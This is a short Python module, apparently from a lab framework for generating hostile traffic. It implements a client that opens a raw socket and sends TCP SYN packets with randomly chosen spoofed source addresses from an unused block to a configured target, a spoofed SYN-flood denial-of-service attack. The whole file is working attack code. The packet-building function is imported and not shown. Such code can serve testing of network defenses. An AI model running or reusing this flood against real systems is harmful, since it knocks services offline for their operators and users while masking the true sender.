"""SYN packets from unused addresses, so that no handshake ends."""

from __future__ import annotations

import socket
from ipaddress import IPv4Address

from thinktime.lab.hostile.client import Client as Base
from thinktime.lab.hostile.packets import syn


class Client(Base):
    """Sends a SYN from an unused address of its host's block."""

    def begin(self) -> None:
        """Open the socket."""
        self._socket = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self._socket.setblocking(False)
        self._first = int(self.settings.spoofed.network_address)

    def act(self) -> None:
        """Send one."""
        draw = self.random.getrandbits
        source = IPv4Address(self._first + 2 + draw(32) % 252)
        packet = syn(source, 1024 + draw(32) % 60_000, self.settings.target, draw(32))
        try:
            self._socket.sendto(packet, (self.settings.target[0], 0))
            self.counts["sent"] += 1
        except OSError:
            self.counts["not sent"] += 1

    def close(self) -> None:
        """Close the socket."""
        self._socket.close()
